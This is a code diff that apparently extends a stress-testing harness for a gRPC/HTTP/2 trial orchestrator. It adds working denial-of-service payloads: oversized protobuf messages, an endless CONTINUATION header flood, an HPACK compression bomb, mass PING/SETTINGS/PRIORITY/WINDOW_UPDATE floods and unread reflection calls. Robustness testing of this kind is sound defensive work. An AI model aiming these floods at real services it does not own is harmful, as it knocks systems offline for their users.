@@ -11,9 +11,10 @@ from _attack_target import MIB, Target, method
 from trio_cogment.api import common_pb2, orchestrator_pb2
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADERS, _RESET, _SETTINGS, _WINDOW_UPDATE = 1, 3, 4, 8
+_HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 1, 2, 3, 4, 6, 8, 9
 _END_STREAM, _END_HEADERS = 1, 4
 _VERSION = "/cogmentAPI.TrialLifecycleSP/Version"
+_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
 _HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
 
 
@@ -201,3 +202,57 @@ async def deep_messages(target: Target) -> None:
     async with target.channel() as channel:
         start = channel.unary_unary("/cogmentAPI.TrialLifecycleSP/StartTrial")
         await target.in_lanes(8, lambda _: start(groups), target.many(200))
+
+
+async def wide_messages(target: Target) -> None:
+    """200 starts of 4 MiB that are two million actors of nothing."""
+    actors = bytes((0x22, 0)) * (2 * MIB - 100)
+    size = bytearray()
+    rest = len(actors)
+    while rest >= 128:
+        size.append(rest & 127 | 128)
+        rest >>= 7
+    size.append(rest)
+    async with target.channel() as channel:
+        start = channel.unary_unary("/cogmentAPI.TrialLifecycleSP/StartTrial")
+        request = bytes((0x0A,)) + bytes(size) + actors
+        await target.in_lanes(8, lambda _: start(request), target.many(200))
+
+
+async def header_floods(target: Target) -> None:
+    """200 connections of header blocks: one without end, and many that stand for 4,000 fields in a few bytes each."""
+    endless = frame(_HEADERS, 0, 1, request_headers(_VERSION)) + b"".join(
+        frame(_CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 1000)) for number in range(5000)
+    )
+    # A field of 4 KiB enters the table, and each further byte means it again.
+    value = b"v" * 3900
+    bomb = bytes((0x40, 1)) + b"x" + b"\x7f" + bytes((3900 - 127 & 127 | 128, 3900 - 127 >> 7)) + value
+    again = b"".join(
+        frame(
+            _HEADERS, _END_HEADERS, 2 * number + 1, request_headers(_VERSION) + (bomb if not number else b"\xbe" * 4000)
+        )
+        for number in range(150)
+    )
+    preface = _PREFACE + frame(_SETTINGS, 0, 0)
+    half = target.many(200) // 2 or 1
+    await asyncio.gather(_send_and_stay(target, half, preface + endless), _send_and_stay(target, half, preface + again))
+
+
+async def control_floods(target: Target) -> None:
+    """300 connections, each with 50,000 PINGs, SETTINGS, PRIORITYs or small credits, and reads no answer."""
+    floods = (
+        frame(_PING, 0, 0, bytes(8)),
+        frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
+        frame(_PRIORITY, 0, 1, bytes(5)),
+        frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
+    )
+    preface = _PREFACE + frame(_SETTINGS, 0, 0)
+    share = target.many(300) // len(floods) or 1
+    await asyncio.gather(*(_send_and_stay(target, share, preface + flood * 50_000, lanes=16) for flood in floods))
+
+
+async def reflections_unread(target: Target) -> None:
+    """200 connections, each with 100 calls that ask for the description of a file, whose answers nobody reads."""
+    symbol = b"cogmentAPI.TrialLifecycleSP"
+    request = bytes((0x22, len(symbol))) + symbol
+    await _send_and_stay(target, target.many(200), calling(100, _REFLECTION, request))
